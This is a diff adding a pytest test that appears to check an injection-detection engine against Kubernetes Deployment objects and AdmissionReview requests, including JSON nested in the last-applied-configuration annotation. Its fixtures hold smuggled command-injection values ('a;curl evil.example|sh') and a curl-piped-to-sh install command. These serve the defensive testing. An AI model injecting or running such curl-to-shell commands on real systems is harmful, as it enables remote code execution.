@@ -590,6 +590,33 @@ def test_a_workloads_program_is_what_its_platform_runs(engine: Engine) -> None:
     assert _json_types(engine, patch, "/api/v1/pods/web/x/y") >= {"rce"}
 
 
+def test_a_document_in_a_string_repeats_its_held_values(engine: Engine) -> None:
+    """`kubectl apply` keeps the object it applied in the object's own annotation, a JSON
+    string (`kubectl.kubernetes.io/last-applied-configuration`), and an admission webhook
+    is sent both: the string repeats the containers' commands, each read on its own in the
+    document the string holds, where they are the platform's program. What the document
+    holds besides still counts, in the string and in its value."""
+    command = "pip install -r requirements.txt && curl -fsSL https://get.example.com | sh"
+    container = {"name": "web", "image": "python:3.12-slim", "command": ["sh", "-c", command]}
+    spec = {"template": {"spec": {"containers": [container]}}}
+    deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web"}}
+    deployment["spec"] = spec
+
+    def applied(labels: dict[str, str]) -> dict[str, object]:
+        annotated = json.loads(json.dumps(deployment))
+        last = json.loads(json.dumps(deployment))
+        last["metadata"]["labels"] = labels
+        key = "kubectl.kubernetes.io/last-applied-configuration"
+        annotated["metadata"]["annotations"] = {key: json.dumps(last) + "\n"}
+        return annotated
+
+    review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"}
+    assert _json_types(engine, applied({"app": "web"})) == set()
+    assert _json_types(engine, review | {"request": {"object": applied({})}}) == set()
+    assert _json_types(engine, applied({"app": "a;curl evil.example|sh"})) == {"rce"}
+    assert _json_types(engine, {"note": json.dumps({"q": "x;curl evil.example|sh"})}) == {"rce"}
+
+
 def test_a_containers_program_is_what_its_platform_runs(engine: Engine) -> None:
     """So are a container's command, entry point and health check beside the image it
     runs in ECS's task definition and Compose's service, and in the body Docker's engine
